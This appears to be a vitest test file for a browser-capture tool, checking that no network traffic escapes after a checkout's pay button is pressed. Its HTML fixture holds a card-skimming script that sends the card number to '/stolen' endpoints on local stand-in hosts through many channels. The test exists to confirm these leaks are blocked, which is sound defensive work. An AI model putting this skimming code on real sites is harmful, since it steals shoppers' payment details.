// Guards the promise behind the press of the pay button: whatever the page tries then, not one byte reaches anybody.
import { createHash } from 'node:crypto'
import { type AddressInfo, createServer, type Server, type Socket } from 'node:net'
import { isPrevented } from '@tillwatch/core/capture'
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { RunningBrowser } from '#index.ts'
import { capture, startBrowser } from './fixture.ts'

const html = `<!doctype html><title>Checkout</title><h1>Checkout</h1>
<form id=f action="/pay" method="post"><label>Card number <input id=card name=cardnumber autocomplete=cc-number></label><button>Pay</button></form>
<iframe name=inner></iframe><script>
const open = new WebSocket('ws://' + location.host + '/socket'), elsewhere = location.origin.replace('shop', 'other')
const worker = new Worker('/worker.js'); worker.postMessage('ready')
fetch('/kept'); fetch(elsewhere + '/kept', { mode: 'no-cors' })
function send() {
  const card = document.getElementById('card').value
  open.send(card)
  worker.postMessage(card)
  for (const to of ['/stolen', elsewhere + '/stolen', 'http://new.localhost:' + location.port + '/stolen']) {
    fetch(to, { method: 'POST', mode: 'no-cors', body: card, keepalive: true }).catch(() => fetch(to + '?again=' + card, { mode: 'no-cors' })).catch(() => 0)
    navigator.sendBeacon(to, card)
    new Image().src = to + '?' + card
    try { new WebSocket(to.replace('http', 'ws') + '?' + card) } catch {}
    try { new EventSource(to + '?' + card) } catch {}
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: to }))
    document.head.append(Object.assign(document.createElement('script'), { src: to + '?' + card }))
  }
  const xhr = new XMLHttpRequest(); xhr.open('POST', '/stolen'); xhr.send(card)
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:' + location.port + '?transport=tcp', username: card, credential: card }] })
  peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  window.open('/stolen?' + card)
  const form = document.getElementById('f'); form.target = 'inner'; HTMLFormElement.prototype.submit.call(form)
  setInterval(() => fetch('/stolen?tick=' + card), 20)
  location.href = '/stolen?' + card
}
for (const type of ['pointerdown', 'click']) document.querySelector('button').addEventListener(type, send)
document.getElementById('f').addEventListener('submit', send)
addEventListener('pagehide', () => navigator.sendBeacon('/stolen', document.getElementById('card').value))
</script>`
const workerText = `onmessage = ({ data }) => fetch('/worker?' + data, { method: 'POST', body: data }).catch(() => 0)`

let browser: RunningBrowser
let server: Server
let bytes = 0
const sockets = new Set<Socket>()
const heads: string[] = []

/** Answers just enough of HTTP, and counts every byte that arrives on any connection. */
function answer(socket: Socket): void {
  let text = ''
  sockets.add(socket)
  socket.on('error', () => socket.destroy())
  socket.on('data', (chunk) => {
    bytes += chunk.length
    text += chunk.toString('latin1')
    const end = text.indexOf('\r\n\r\n')
    if (end < 0) return
    const head = text.slice(0, end)
    text = ''
    heads.push(head.split('\r\n')[0] ?? '')
    const key = /^sec-websocket-key: (.+)$/im.exec(head)?.[1]
    if (key) {
      const accept = createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64')
      socket.write(
        `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
      )
      return
    }
    const [type, body] = head.includes(' /worker.js ')
      ? ['text/javascript', workerText]
      : ['text/html', head.startsWith('GET / ') ? html : '']
    socket.write(`HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`)
  })
}

beforeAll(async () => {
  server = createServer(answer)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  browser = await startBrowser()
})
afterAll(async () => {
  await browser?.close()
  for (const socket of sockets) socket.destroy()
  server?.close()
})

it.each(['desktop', 'mobile'] as const)('not one byte arrives after the network is cut for the press, %s', async (profile) => {
  const { port } = server.address() as AddressInfo
  let before: number | null = null
  const onProgress = ({ stage }: { stage: string }) => {
    if (stage === 'pressing') before ??= bytes
  }
  const { capture: taken } = await capture(browser, `http://shop.localhost:${port}/`, { profile, onProgress, timeoutMs: 180_000 })
  await new Promise((resolve) => setTimeout(resolve, 200))
  expect(heads.filter((head) => /GET \/socket/.test(head)).length).toBeGreaterThan(0)
  expect(before).toBeGreaterThan(0)
  expect(bytes).toBe(before)
  expect(heads.filter((head) => /stolen|pay|424242/.test(head))).toEqual([])
  // It was tried, and what was tried is known.
  const tried = taken.canary?.sightings.filter(({ value, phase }) => value === 'card' && phase === 'press') ?? []
  expect(tried.every(({ blocked }) => blocked)).toBe(true)
  expect(new Set(tried.map(({ where }) => where))).toEqual(new Set(['url', 'body', 'websocket']))
  for (const host of ['shop', 'other', 'new']) expect(tried.map((one) => one.host)).toContain(`${host}.localhost:${port}`)
  const pressed = taken.requests.filter(({ phase }) => phase === 'press')
  expect(pressed.every(({ failure, status }) => failure?.by === 'egress' && status === null)).toBe(true)
  expect(pressed.filter((request) => !isPrevented(request))).toEqual([])
  expect(taken.outcome.status).toBe('complete')
})
